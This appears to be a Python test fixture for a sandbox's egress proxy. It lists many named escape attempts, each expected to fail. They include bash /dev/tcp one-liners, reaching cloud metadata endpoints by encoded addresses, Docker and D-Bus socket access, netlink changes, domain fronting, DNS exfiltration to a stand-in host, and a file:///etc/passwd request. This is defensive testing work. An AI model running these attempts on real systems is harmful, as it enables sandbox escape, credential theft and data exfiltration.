"""Ways out of a sandbox that lead nowhere, by name: what is run inside, and why the proxy says no, if it is asked at all.

Names begin with the cases of the security list that they belong to. PORT is that of a server which only the allowed name
may reach, ABSTRACT and LOCAL are canaries.
"""

# ruff: noqa: E501 the ways are shown as they are run

from __future__ import annotations

from arrowslit.policy.egress import Refusal
from tests.sandbox.canaries import Canaries

INWARDS = "inwards.test"  # an allowed name that leads to the cloud's metadata

SAY = """
def said(data, port=3128):
    with socket.create_connection(("127.0.0.1", port), 5) as s:
        s.sendall(data.replace("{port}", "PORT").encode())
        answer = b""
        while piece := s.recv(4096): answer += piece
    print("ESCAPED" if answer.startswith(b"HTTP/1.1 200") else "blocked", answer[:60])
def get(host): said(f"GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
def connect(host): said(f"CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
def reach(address, family=2, kind=1):
    with socket.socket(family, kind) as s:
        s.settimeout(3)
        try:
            s.connect(address)
            if kind == 2: s.send(b"x")
            print("ESCAPED", address)
        except OSError as error: print("blocked", errno.errorcode.get(error.errno, error))
def may(what):
    try: print("ESCAPED", what())
    except OSError as error: print("blocked", errno.errorcode.get(error.errno, error))
def netlink(kind, flags, body):
    s = socket.socket(16, 3, 0)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 5 | flags, 1, 0) + body)
    number = -struct.unpack("=i", s.recv(4096)[16:20])[0]
    print("blocked" if number in (errno.EPERM, errno.EACCES) else "ESCAPED", errno.errorcode.get(number, number))
def hidden(name):
    import ssl
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); context.check_hostname = False; context.verify_mode = 0
    out = ssl.MemoryBIO(); tls = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try: tls.do_handshake()
    except ssl.SSLWantReadError: pass
    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
        s.sendall(b"CONNECT allowed.test:PORT HTTP/1.1\\r\\n\\r\\n" + out.read())
        answer = b""
        while piece := s.recv(4096): answer += piece
    print("ESCAPED" if b"ok" in answer or b"\\x16\\x03" in answer else "blocked", answer)
"""

SILENT: dict[str, str] = {  # name: Python. Nothing of these arrives at the proxy, nor anywhere else.
    "SBX-01 a service on the host's loopback": "reach(('127.0.0.1', PORT))",
    "SBX-01 a service on the host's loopback, another spelling": "reach(('127.0.0.2', PORT)); reach(('0.0.0.0', PORT)); reach(('::ffff:127.0.0.1', PORT), 10)",
    "SBX-01 a service on the host's loopback over IPv6": "reach(('::1', PORT), 10)",
    "TEST-NET 1": "reach(('192.0.2.1', 80))",
    "TEST-NET 2": "reach(('198.51.100.1', 443))",
    "TEST-NET 3": "reach(('203.0.113.1', 22))",
    "SBX-01 a host of the local network": "reach(('192.168.1.1', 80)); reach(('10.0.2.2', 80)); reach(('172.17.0.1', 80))",
    "SBX-01 IPv6": "reach(('2001:db8::1', 80), 10); reach(('fe80::1%lo', 80), 10)",
    "IPv4 in IPv6": "reach(('::ffff:192.0.2.1', 80), 10); reach(('64:ff9b::c000:201', 80), 10)",
    "SBX-01 metadata address": "reach(('169.254.169.254', 80)); reach(('fd00:ec2::254', 80), 10); reach(('100.100.100.200', 80))",
    "SBX-01 DNS over UDP": "reach(('192.0.2.53', 53), kind=2); reach(('2001:db8::53', 53), 10, 2)",
    "SBX-01 DNS over TCP": "reach(('192.0.2.53', 53)); reach(('127.0.0.53', 53))",
    "SBX-01 a name, by the resolver": "may(lambda: socket.getaddrinfo('allowed.test', 80)); may(lambda: socket.gethostbyname('example.com'))",
    "UDP": "reach(('192.0.2.1', 9), kind=2); may(lambda: socket.socket(2, 2).sendto(b'x', ('203.0.113.9', 443)))",
    "multicast and broadcast": "may(lambda: socket.socket(2, 2).sendto(b'x', ('224.0.0.251', 5353))); may(lambda: socket.socket(2, 2).sendto(b'x', ('255.255.255.255', 67)))",
    "TCP fast open": "may(lambda: socket.socket().sendto(b'x', 0x20000000, ('192.0.2.1', 80)))",
    "SBX-01 ICMP": "may(lambda: socket.socket(2, 2, 1)); may(lambda: socket.socket(10, 2, 58))",
    "SBX-01 raw": "may(lambda: socket.socket(2, 3, 255)); may(lambda: socket.socket(10, 3, 58)); may(lambda: socket.socket(2, 10, 768))",
    "AF_PACKET": "may(lambda: socket.socket(17, 3, 0)); may(lambda: socket.socket(17, 2, 768))",
    "AF_VSOCK": "may(lambda: socket.socket(40, 1)); may(lambda: socket.socket(40, 2))",
    "AF_ALG": "may(lambda: socket.socket(38, 5))",
    "other families": "[may(lambda: socket.socket(f, k)) for f in (3, 4, 5, 9, 15, 21, 23, 24, 26, 29, 30, 31, 33, 35, 36, 39, 41, 42, 43, 44, 45) for k in (1, 2, 3, 5)]",
    "other protocols": "may(lambda: socket.socket(2, 1, 132)); may(lambda: socket.socket(2, 1, 262)); may(lambda: socket.socket(2, 2, 136)); may(lambda: socket.socket(2, 5, 132))",
    "netlink: an address": "netlink(20, 0x400, struct.pack('=BBBBi', 2, 24, 0, 0, 1) + struct.pack('=HH4s', 8, 2, bytes([10, 0, 2, 15])))",
    "netlink: a route": "netlink(24, 0x400, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 4, 253, 1, 0) + struct.pack('=HHi', 8, 4, 1))",
    "netlink: an interface": "netlink(16, 0x400, struct.pack('=BxHiII', 0, 0, 0, 0, 0) + struct.pack('=HH6s2x', 10, 3, b'dummy0'))",
    "netlink: loopback down": "netlink(16, 0, struct.pack('=BxHiII', 0, 0, 1, 0, 1))",
    "netlink: other kinds": "[may(lambda: socket.socket(16, 3, p)) for p in (2, 4, 6, 9, 12, 15, 16, 20)]",
    "setting the namespace's own": "[may(lambda: open('/proc/sys/net/ipv4/' + n, 'w')) for n in ('ip_forward', 'ping_group_range', 'conf/lo/route_localnet')]",
    "options of sockets": "s = socket.socket(); [may(lambda: s.setsockopt(l, o, v)) for l, o, v in ((1, 36, 1), (0, 19, 1), (1, 25, b'eth0'), (0, 64, bytes(84)))]",
    "an interface by ioctl": "import fcntl; s = socket.socket(2, 2); may(lambda: fcntl.ioctl(s, 0x8914, struct.pack('16sh14x', b'lo', 0))); may(lambda: fcntl.ioctl(s, 0x89a0, b'br0\\0')); op('/dev/net/tun')",
    "SBX-03 abstract socket of the host": "reach('\\0ABSTRACT', 1)",
    "SBX-03 path socket of the host": "reach('LOCAL', 1); reach('/proc/1/root' + 'LOCAL', 1)",
    "SBX-03 sockets of services": "[reach(p, 1) for p in ('/var/run/docker.sock', '/run/podman/podman.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket', '/run/user/0/bus', '/tmp/.X11-unix/X0', '/run/systemd/private')]; reach('\\0/tmp/.X11-unix/X0', 1); reach('\\0/tmp/dbus-x', 1)",
    "the proxy at another address": "reach(('127.0.0.2', 3128)); reach(('::1', 3128), 10)",
    "taking the proxy's port": "s = socket.socket(); s.setsockopt(1, 15, 1); s.setsockopt(1, 2, 1); may(lambda: s.bind(('127.0.0.1', 3128)) or s.listen())",
}  # fmt: skip

PROGRAMS: dict[str, str] = {  # name: bash, which prints its status. Nothing of these arrives anywhere either.
    "curl --noproxy to the host's loopback": "curl -sS --noproxy '*' http://127.0.0.1:PORT/",
    "curl --noproxy to the allowed name": "curl -sS --noproxy '*' http://allowed.test:PORT/",
    "curl with an address for the name": "curl -sS --noproxy '*' --resolve allowed.test:PORT:127.0.0.1 http://allowed.test:PORT/",
    "curl with an empty proxy": "curl -sS -x '' http://allowed.test:PORT/",
    "curl without the variables": "env -i curl -sS http://allowed.test:PORT/",
    "curl over HTTP/3": "curl -sS --http3-only --noproxy '*' https://192.0.2.1/",
    "curl with another resolver": "env -i curl -sS --doh-url https://192.0.2.53/dns-query http://allowed.test:PORT/",
    "python without the variables": "env -i python3 -c 'import urllib.request as u; u.urlopen(\"http://127.0.0.1:PORT/\", timeout=3)'",
    "pip without the variables": "env -i python3 -c 'import http.client as h; h.HTTPConnection(\"allowed.test\", PORT, timeout=3).request(\"GET\", \"/\")'",
    "git without the variables": "env -i /usr/bin/git ls-remote http://127.0.0.1:PORT/x",
    "git over its own protocol": "git ls-remote git://allowed.test/x",
    "bash": "exec 3<>/dev/tcp/127.0.0.1/PORT",
    "bash over UDP": "exec 3<>/dev/udp/192.0.2.1/53",
    "no_proxy for everything": "no_proxy='*' NO_PROXY='*' curl -sS http://127.0.0.1:PORT/",
}  # fmt: skip

ASKED: dict[str, tuple[str, Refusal]] = {  # name: (Python, why the proxy says no)
    "SBX-02 another name": ("get('evil.test:PORT')", Refusal.HOST_NOT_ALLOWED),
    "SBX-02 CONNECT to an address": ("connect('127.0.0.1:PORT')", Refusal.LITERAL_NOT_ALLOWED),
    "SBX-02 CONNECT to IPv6": ("connect('[::1]:PORT')", Refusal.LITERAL_NOT_ALLOWED),
    "SBX-02 another port": ("connect('allowed.test:22')", Refusal.PORT_NOT_ALLOWED),
    "SBX-02 SNI is not the host": ("hidden('evil.test')", Refusal.SNI_MISMATCH),
    "SBX-02 Host is not the URL's (domain fronting)": (
        "said('GET http://allowed.test:PORT/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')",
        Refusal.HOST_MISMATCH,
    ),
    "SBX-02 DNS exfiltration": ("connect('c2VjcmV0.evil.test:443')", Refusal.HOST_NOT_ALLOWED),
    "SBX-01 the gateway itself": ("connect('localhost:PORT')", Refusal.HOST_NOT_ALLOWED),
    "the proxy itself": ("get('127.0.0.1:3128')", Refusal.LITERAL_NOT_ALLOWED),
    "SBX-10 metadata": ("get('169.254.169.254')", Refusal.LITERAL_NOT_ALLOWED),
    "metadata, by name": ("get('metadata.google.internal')", Refusal.HOST_NOT_ALLOWED),
    "metadata, an allowed name that leads there": (f"get('{INWARDS}')", Refusal.ADDRESS_NOT_ALLOWED),
    "metadata, decimal": ("get('2852039166')", Refusal.HOST_INVALID),
    "metadata, octal": ("get('0251.0376.0251.0376')", Refusal.HOST_INVALID),
    "metadata, hexadecimal": ("get('0xa9fea9fe')", Refusal.HOST_INVALID),
    "metadata, short": ("get('169.254.43518')", Refusal.HOST_INVALID),
    "metadata, IPv4 in IPv6": ("get('[::ffff:169.254.169.254]')", Refusal.HOST_INVALID),
    "metadata, IPv4 in IPv6 in hexadecimal": ("get('[::ffff:a9fe:a9fe]')", Refusal.HOST_INVALID),
    "metadata, NAT64": ("get('[64:ff9b::a9fe:a9fe]')", Refusal.LITERAL_NOT_ALLOWED),
    "metadata, IPv6": ("get('[fd00:ec2::254]')", Refusal.LITERAL_NOT_ALLOWED),
    "metadata, full-width digits": ("get('169。254。169。254')", Refusal.REQUEST_INVALID),
    "SOCKS": ("said('\\x05\\x01\\x00')", Refusal.NOT_HTTP),
    "a file of the proxy's machine": (
        "said('GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')",
        Refusal.REQUEST_INVALID,
    ),
}


def asking(script: str) -> str:
    """The script of a way with its helpers."""
    return SAY + script


def filled(script: str, port: int, canaries: Canaries) -> str:
    """The script of a way, with the places that it aims at."""
    for name, value in (("PORT", str(port)), ("ABSTRACT", canaries.abstract), ("LOCAL", canaries.local)):
        script = script.replace(name, value)
    return script
